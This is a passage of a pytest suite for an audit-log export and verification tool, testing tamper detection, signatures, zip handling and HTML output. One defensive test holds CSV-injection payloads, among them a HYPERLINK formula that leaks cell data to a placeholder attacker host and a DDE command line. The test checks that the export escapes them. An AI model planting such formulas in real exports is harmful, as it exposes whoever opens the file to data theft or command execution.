    @pytest.mark.parametrize("deleted", ["every segment of another log", "a record"])
    def test_deleted_records_stop_the_export(
        self, deleted: str, small: Ledgers, tmp_path: Path
    ) -> None:
        """Records deleted from any log, the subject's or another, stop the export with an
        error naming the log: a package of fewer records, signed as complete, would lie."""
        if deleted == "a record":
            seg = next((small.root / "logs" / "log-0" / "segments").glob("*/*.jsonl"))
            lines = seg.read_bytes().splitlines(keepends=True)
            seg.write_bytes(b"".join(ln for ln in lines if b'"user_id":"user-3"' not in ln))
            log, left = "log-0", sum(b'"user_id":"user-3"' not in ln for ln in lines)
        else:
            shutil.rmtree(small.root / "logs" / "log-1" / "segments")
            log, left = "log-1", 0
        out = tmp_path / "out"
        result = run("export", "--ledger", small.root, "--public-key", small.pub,
                     "--key", small.key, "--user", "user-3", "--out", out)  # fmt: skip
        assert (2, "") == (result.exit_code, result.stdout), result.output
        assert result.stderr.splitlines()[-1] == (
            f"tokentrail: error: log {log} has {left} records, fewer than its signed checkpoint"
            " of size 300: records were deleted, so an export could miss some (run tokentrail"
            " verify)"
        )
        assert not out.exists()

    def test_without_a_witness_state_it_says_so(self, small: Ledgers, tmp_path: Path) -> None:
        """An export made with no witness state of verify cannot notice a log deleted before
        it (an outside audit deleted one and got a package signed as complete): a warning, and
        the package's signed README says so; with the verifier's state, it says what it was
        checked against."""
        out = tmp_path / "u3"
        result = _export(small, out, "--user", "user-3")
        assert "warning: no witness state of tokentrail verify" in result.stderr
        assert "No witness state of" in (out / "README.txt").read_text()
        state = tmp_path / "state"
        checked = CliRunner().invoke(main, ["verify", "--ledger", str(small.root),
                                            "--public-key", str(small.pub), "--state",
                                            str(state)])  # fmt: skip
        assert checked.exit_code == 0, checked.output
        out2 = tmp_path / "u3-witnessed"
        result = _export(small, out2, "--user", "user-3", "--state", state)
        assert "witness" not in result.stderr
        assert "against the 2 logs tokentrail verify had proved" in " ".join(
            (out2 / "README.txt").read_text().split()
        )
        assert _verify(out2, "--public-key", small.pub).exit_code == 0

    @pytest.mark.parametrize("tamper", ["log gone", "rolled back"])
    def test_what_verify_proved_bounds_the_export(
        self, tamper: str, small: Ledgers, tmp_path: Path
    ) -> None:
        """A log verify proved, gone since, or rolled back below the checkpoint verify proved:
        the export stops, naming it (it exported fewer records, signed as complete)."""
        state = tmp_path / "state"
        from tokentrail._cli import main

        checked = CliRunner().invoke(main, ["verify", "--ledger", str(small.root), "--public-key",
                                            str(small.pub), "--state", str(state)])  # fmt: skip
        assert 0 == checked.exit_code, checked.output
        if tamper == "log gone":
            shutil.rmtree(small.root / "logs" / "log-1")
        else:
            for cp in (small.root / "logs" / "log-1" / "checkpoints").iterdir():
                cp.unlink()
        out = tmp_path / "out"
        result = run("export", "--ledger", small.root, "--public-key", small.pub, "--key",
                     small.key, "--user", "user-3", "--out", out, "--state", state)  # fmt: skip
        assert 2 == result.exit_code, result.output
        expected = "is gone from the ledger" if tamper == "log gone" else "rolled back"
        assert expected in result.stderr and "log log-1" in result.stderr, result.stderr
        assert not out.exists()

    def test_accepted_pinned(self, big: Ledgers, user7: Path) -> None:
        """verify-export accepts the package with the pinned key."""
        result = _verify(user7, "--public-key", big.pub)
        assert result.exit_code == 0, result.output
        assert result.output.startswith(
            f"verify-export OK: {user7}: 2000 records of user user-7, each proven included in a"
            " signed checkpoint; manifest signed"
        )
        assert "not pinned" not in result.output

    def test_unpinned_says_so(self, user7: Path) -> None:
        """Without --public-key the package's own key is used, and the output says so."""
        result = _verify(user7)
        assert result.exit_code == 0
        assert "NOTE: verifier key taken from the package itself (not pinned)" in result.output

    def test_wrong_pinned_key_fails(self, user7: Path, tmp_path: Path) -> None:
        """A package signed by another key fails under the pinned key: the manifest, each
        log's checkpoint, and each log's records once (not a line for each of 2,000)."""
        other = Signer.generate("someone-else").verifier.to_text()
        result = _verify(user7, "--public-key", other)
        assert result.exit_code == 1
        assert "no signature by a trusted key" in result.output
        fails = [ln for ln in result.output.splitlines() if ln.startswith("FAIL: ")]
        unproven = [ln for ln in fails if "no valid checkpoint of the log" in ln]
        logs = {ln.split(" of log ")[1].split(" ")[0] for ln in unproven}
        assert len(unproven) == len(logs) >= 1
        assert sum(int(ln.split()[1]) for ln in unproven) == 2000
        assert len(fails) < 10, fails

    def test_each_line_is_a_proof_bundle(self, big: Ledgers, user7: Path) -> None:
        """A records.jsonl line is a tokentrail.inclusion-proof/v1 bundle."""
        from tokentrail._checkpoint import load_verifiers
        from tokentrail._proof import check_bundle

        line = (user7 / "records.jsonl").read_bytes().splitlines()[17]
        rec = check_bundle(orjson.loads(line), load_verifiers([str(big.pub)]))
        assert rec["user_id"] == "user-7"

    @pytest.mark.parametrize("where", [0.1, 0.5, 0.93])
    def test_one_byte_edit_names_the_record(self, user7: Path, tmp_path: Path,
                                            where: float) -> None:  # fmt: skip
        """Editing one byte inside a record's text fails, naming that record."""
        pkg = _fresh(user7, tmp_path)
        path = pkg / "records.jsonl"
        lines = path.read_bytes().splitlines(keepends=True)
        n = int(len(lines) * where)
        target = orjson.loads(orjson.loads(lines[n])["record"])
        lines[n] = lines[n].replace(b"about invoices", b"about invoiceS", 1)
        path.write_bytes(b"".join(lines))
        result = _verify(pkg)
        assert result.exit_code == 1
        assert f"FAIL: record {target['event_id']} (log {target['log_id']}, seq" in result.output
        assert "inclusion proof for leaf" in result.output

    @pytest.mark.parametrize("name", ["README.txt", "checkpoints", "manifest.json", "proof"])
    def test_one_byte_edit_elsewhere(self, user7: Path, tmp_path: Path, name: str) -> None:
        """A byte edited in the README, a checkpoint, the manifest or a proof fails too."""
        pkg = _fresh(user7, tmp_path)
        if name == "proof":
            path = pkg / "records.jsonl"
            lines = path.read_bytes().splitlines(keepends=True)
            bundle = orjson.loads(lines[3])
            raw = bytearray(base64.b64decode(bundle["proof"][2]))
            raw[0] ^= 1
            bundle["proof"][2] = base64.b64encode(bytes(raw)).decode()
            lines[3] = orjson.dumps(bundle) + b"\n"
            path.write_bytes(b"".join(lines))
            target = orjson.loads(bundle["record"])["event_id"]
        else:
            path = next(p for p in sorted(pkg.rglob("*")) if p.is_file() and
                        p.relative_to(pkg).as_posix().startswith(name))  # fmt: skip
            data = bytearray(path.read_bytes())
            data[len(data) // 2] ^= 0x01
            path.write_bytes(bytes(data))
            target = None
        result = _verify(pkg)
        assert result.exit_code == 1, result.output
        if target:
            assert f"FAIL: record {target}" in result.output

    def test_dropped_record_is_named(self, user7: Path, tmp_path: Path) -> None:
        """Dropping a record from the data file fails, naming the missing record."""
        pkg = _fresh(user7, tmp_path)
        path = pkg / "records.jsonl"
        lines = path.read_bytes().splitlines(keepends=True)
        dropped = orjson.loads(orjson.loads(lines.pop(1234))["record"])
        path.write_bytes(b"".join(lines))
        result = _verify(pkg)
        assert result.exit_code == 1
        assert (
            f"FAIL: record {dropped['event_id']} (log {dropped['log_id']}, seq {dropped['seq']})"
            " is listed in the manifest but missing from records.jsonl"
        ) in result.output

    def test_dropped_record_and_manifest_entry(self, user7: Path, tmp_path: Path) -> None:
        """Dropping it from the manifest too breaks the manifest's signature."""
        pkg = _fresh(user7, tmp_path)
        path = pkg / "records.jsonl"
        lines = path.read_bytes().splitlines(keepends=True)
        dropped = orjson.loads(orjson.loads(lines.pop(5))["record"])
        path.write_bytes(b"".join(lines))
        manifest = orjson.loads((pkg / "manifest.json").read_bytes())
        manifest["records"] = [r for r in manifest["records"]
                               if r["event_id"] != dropped["event_id"]]  # fmt: skip
        manifest["record_count"] -= 1
        (pkg / "manifest.json").write_bytes(orjson.dumps(manifest, option=orjson.OPT_INDENT_2))
        result = _verify(pkg)
        assert result.exit_code == 1
        assert "manifest.sig does not vouch for manifest.json" in result.output

    @pytest.mark.parametrize(
        ("field", "value"),
        [("range", "2026"), ("files", [[1, "x"]]), ("data_file", ["records.jsonl"]),
         ("records", "all"), ("subject", "user-7")],
    )  # fmt: skip
    def test_malformed_manifest_is_a_failure(
        self, field: str, value: Any, user7: Path, tmp_path: Path
    ) -> None:
        """A manifest whose fields have the wrong shape fails with a worded problem (exit 1),
        never a traceback, signed or not."""
        pkg = _fresh(user7, tmp_path)
        (pkg / "manifest.sig").unlink()
        manifest = orjson.loads((pkg / "manifest.json").read_bytes())
        manifest[field] = value
        (pkg / "manifest.json").write_bytes(orjson.dumps(manifest))
        result = _verify(pkg)
        assert 1 == result.exit_code, result.output
        assert "FAIL: manifest.json cannot be read: " in result.output
        assert "Traceback" not in result.output

    def test_zip_with_two_entries_of_one_name(self, big: Ledgers, tmp_path: Path) -> None:
        """A zip holding two records.jsonl is refused: which one a tool extracts differs."""
        import zipfile

        package = tmp_path / "user-7.zip"
        _export(big, package, "--user", "user-7")
        with zipfile.ZipFile(package, "a") as zf, pytest.warns(UserWarning, match="Duplicate"):
            zf.writestr("records.jsonl", b"")
        result = _verify(package)
        refusal = f"tokentrail: error: {package} holds more than one entry named records.jsonl\n"
        assert (2, refusal) == (result.exit_code, result.stderr)

    def test_swapped_in_record_is_named(self, big: Ledgers, user7: Path, tmp_path: Path) -> None:
        """Another user's genuine, proven record swapped in fails, naming both records."""
        other = tmp_path / "user-8"
        _export(big, other, "--user", "user-8")
        pkg = _fresh(user7, tmp_path)
        path = pkg / "records.jsonl"
        lines = path.read_bytes().splitlines(keepends=True)
        theirs = (other / "records.jsonl").read_bytes().splitlines(keepends=True)[10]
        ours = orjson.loads(orjson.loads(lines[10])["record"])
        intruder = orjson.loads(orjson.loads(theirs)["record"])
        lines[10] = theirs
        path.write_bytes(b"".join(lines))
        result = _verify(pkg)
        assert result.exit_code == 1
        assert (
            f"FAIL: record {intruder['event_id']} (log {intruder['log_id']}, seq"
            f" {intruder['seq']}): belongs to user 'user-8', not the subject 'user-7'"
        ) in result.output
        assert f"FAIL: record {ours['event_id']}" in result.output

    def test_csv_readable_cell_edit(self, small: Ledgers, tmp_path: Path) -> None:
        """CSV: editing a readable column (not the proven record) is caught and named."""
        out = tmp_path / "u3"
        _export(small, out, "--user", "user-3", "--format", "csv")
        assert _verify(out).exit_code == 0
        rows = list(csv.reader(io.StringIO((out / "records.csv").read_text(), newline="")))
        assert rows[0][:3] == ["event_id", "timestamp", "session_id"]
        data = (out / "records.csv").read_bytes()
        victim = rows[4][0]
        text = rows[4][6]
        (out / "records.csv").write_bytes(data.replace(f",{text},".encode(), b",nothing,", 1))
        result = _verify(out)
        assert result.exit_code == 1
        assert f"records.csv differs from what its proven records render to, at record {victim}" \
            in result.output  # fmt: skip

    def test_csv_formula_cells_are_text(self, tmp_path: Path) -> None:
        """A prompt is anyone's text: a readable cell a spreadsheet would run as a formula
        starts with an apostrophe (OWASP's CSV-injection rule); the record column keeps the
        exact text, and the package verifies."""
        texts = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3",
                 "@SUM(1)", "plain"]  # fmt: skip
        root, key, pub = mallory_ledger(tmp_path, texts)
        out = tmp_path / "m"
        result = run("export", "--ledger", root, "--user", "mallory", "--format", "csv",
                     "--out", out, "--key", key, "--public-key", pub)  # fmt: skip
        assert result.exit_code == 0, result.output
        rows = list(csv.reader(io.StringIO((out / "records.csv").read_text(), newline="")))
        shown = {row[5] for row in rows[1:]}
        assert {"'" + t for t in texts[:4]} | {"plain"} == shown
        assert {json.loads(row[-1])["input_text"] for row in rows[1:]} == set(texts)
        assert _verify(out, "--public-key", pub).exit_code == 0

    def test_zip_and_range(self, small: Ledgers, tmp_path: Path) -> None:
        """A .zip package with --since/--until holds only the range and verifies."""
        recs = sorted((r for r in records_of(small.root) if r["user_id"] == "user-2"),
                      key=lambda r: r["timestamp"])  # fmt: skip
        out = tmp_path / "u2.zip"
        _export(small, out, "--user", "user-2", "--since", recs[3]["timestamp"], "--until",
                recs[9]["timestamp"])  # fmt: skip
        with zipfile.ZipFile(out) as zf:
            lines = zf.read("records.jsonl").splitlines()
        got = [orjson.loads(orjson.loads(line)["record"])["event_id"] for line in lines]
        assert [r["event_id"] for r in recs[3:9]] == got
        assert _verify(out, "--public-key", small.pub).exit_code == 0

    def test_zip_with_a_damaged_entry(self, small: Ledgers, tmp_path: Path) -> None:
        """A byte flipped inside a zip entry's data (its directory still reads): the package
        does not verify, exit 1 with a FAIL line, not "cannot be read" (exit 2)."""
        out = tmp_path / "u2.zip"
        _export(small, out, "--user", "user-2")
        with zipfile.ZipFile(out) as zf:
            info = zf.getinfo("records.jsonl")
        data = bytearray(out.read_bytes())
        at = info.header_offset  # the local header: name and extra lengths at 26 and 28
        name_len = int.from_bytes(data[at + 26 : at + 28], "little")
        extra_len = int.from_bytes(data[at + 28 : at + 30], "little")
        start = at + 30 + name_len + extra_len
        data[start + info.compress_size // 2] ^= 0x01
        out.write_bytes(bytes(data))
        result = _verify(out, "--public-key", small.pub)
        assert 1 == result.exit_code, result.output
        assert "FAIL: the zip is damaged (records.jsonl: " in result.output
        assert "Traceback" not in result.output

    def test_only_the_owner_can_read_it(self, small: Ledgers, tmp_path: Path) -> None:
        """A package holds a person's prompts: its files are 0600 and its folders 0700, as
        a zip or a directory, whatever the umask."""
        old = os.umask(0o022)
        try:
            _export(small, tmp_path / "u2.zip", "--user", "user-2")
            _export(small, tmp_path / "u2", "--user", "user-2")
        finally:
            os.umask(old)
        modes = {
            p.relative_to(tmp_path).as_posix(): oct(p.stat().st_mode & 0o777)
            for p in [tmp_path / "u2.zip", tmp_path / "u2", *(tmp_path / "u2").rglob("*")]
        }
        assert {"0o600"} == {m for name, m in modes.items() if (tmp_path / name).is_file()}
        assert {"0o700"} == {m for name, m in modes.items() if (tmp_path / name).is_dir()}
        assert "u2/checkpoints" in modes

    @pytest.mark.parametrize("fmt", ["jsonl", "csv", "html"])
    def test_subject_with_no_records(self, small: Ledgers, tmp_path: Path, fmt: str) -> None:
        """A subject the ledger holds nothing of still gets a package, and it verifies: an
        answer of "no records" is an answer a DSAR needs, signed like any other."""
        out = tmp_path / f"nobody-{fmt}"
        result = _export(small, out, "--user", "nobody", "--format", fmt)
        assert result.stdout.startswith("exported 0 records of user nobody")
        result = _verify(out, "--public-key", small.pub)
        assert result.exit_code == 0, result.output
        assert result.output.startswith(f"verify-export OK: {out}: 0 records of user nobody")

    def test_unsigned_manifest_with_require_signed(self, small: Ledgers, tmp_path: Path) -> None:
        """A package whose signature was taken away, and a record with it, passes on its own
        hashes; --require-signed fails it, as an auditor relying on completeness needs."""
        out = tmp_path / "u3"
        _export(small, out, "--user", "user-3")
        (out / "manifest.sig").unlink()
        manifest = orjson.loads((out / "manifest.json").read_bytes())
        lines = (out / "records.jsonl").read_bytes().splitlines(keepends=True)
        (out / "records.jsonl").write_bytes(b"".join(lines[1:]))
        manifest["records"] = manifest["records"][1:]
        manifest["record_count"] -= 1
        data = (out / "records.jsonl").read_bytes()
        manifest["files"]["records.jsonl"] = hashlib.sha256(data).hexdigest()
        (out / "manifest.json").write_bytes(orjson.dumps(manifest, option=orjson.OPT_INDENT_2))
        assert 0 == _verify(out, "--public-key", small.pub).exit_code
        strict = _verify(out, "--public-key", small.pub, "--require-signed")
        assert 1 == strict.exit_code
        assert "FAIL: the manifest is not signed (--require-signed)" in strict.output

    def test_unsealed_records_refused(self, tmp_path: Path) -> None:
        """A subject record not yet under a checkpoint is refused with advice, exit 2."""
        signer, _key, pub = _keys(tmp_path)
        root = tmp_path / "ledger"
        ledger = Ledger.open(LedgerConfig(root, "live", signer))
        try:
            ledger.append(small_exchange(1))
            result = run("export", "--ledger", root, "--public-key", pub, "--no-sign",
                         "--user", "user-1", "--out", tmp_path / "x")  # fmt: skip
        finally:
            ledger.close()
        assert result.exit_code == 2
        assert "not covered by a signed checkpoint yet" in result.output


# ---------------------------------------------------------------------- HTML in Chromium


def _chromium() -> str | None:
    return shutil.which("chromium") or shutil.which("chromium-browser")


class TestHtml:
    """The HTML export is one self-contained page a person can read."""

    def test_self_contained_and_verifiable(self, small: Ledgers, tmp_path: Path) -> None:
        """No external resources; records.html alone verifies; an edited word is named."""
        out = tmp_path / "html"
        _export(small, out, "--user", "user-4", "--format", "html")
        page = (out / "records.html").read_bytes()
        assert not re.search(rb"(src|href)=\"?(https?:)?//", page)
        assert _verify(out / "records.html", "--public-key", small.pub).exit_code == 0
        victim = next(r for r in records_of(small.root) if r["user_id"] == "user-4")
        edited = page.replace(f"<pre>{victim['output_text']}</pre>".encode(),
                              b"<pre>something else</pre>", 1)  # fmt: skip
        assert edited != page
        (out / "records.html").write_bytes(edited)
        result = _verify(out)
        assert result.exit_code == 1
        assert f"at record {victim['event_id']}" in result.output

    @pytest.mark.skipif(
        _chromium() is None,
        reason="chromium is not installed (apt-get install -y chromium); the HTML export is"
        " checked in a real browser only where it is",
    )
    def test_visible_text_in_chromium(self, small: Ledgers, tmp_path: Path) -> None:
        """Headless Chromium renders the page; the visible text shows the exchanges."""
        out = tmp_path / "html"
        _export(small, out, "--user", "user-4", "--format", "html")
        browser = _chromium()
        assert browser is not None
        proc = subprocess.run(
            [browser, "--headless", "--no-sandbox", "--disable-gpu",
             "--disable-background-networking", "--no-first-run", "--disable-sync",
             "--disable-component-update", f"--user-data-dir={tmp_path / 'profile'}",
             "--dump-dom", (out / "records.html").as_uri()],
            capture_output=True, text=True, timeout=120,
        )  # fmt: skip
        assert proc.returncode == 0, proc.stderr[-2000:]
        dom = proc.stdout
        text = re.sub(r"<script[^>]*>.*?</script>|<style>.*?</style>", "", dom, flags=re.S)
        text = re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", text))
        mine = [r for r in records_of(small.root) if r["user_id"] == "user-4"]
        assert "Your records of conversations with an AI model" in text
        assert f"every recorded exchange between user-4 and the AI model service: {len(mine)}" \
            " exchanges" in text  # fmt: skip
        assert f"Exchange {len(mine)} " in text
        for rec in mine:
            assert f"user: {rec['input_text']}" in text or f"input: {rec['input_text']}" in text
            assert rec["output_text"] in text
        assert "Proven part of the signed audit log" in text
        assert "The operator signed the list of records as complete." in text


def test_commands_have_examples() -> None:
    """Every audit command's help carries an example."""
    for command in CLI.commands.values():
        assert isinstance(command, click.Command)
        assert "Example" in (command.help or ""), command.name
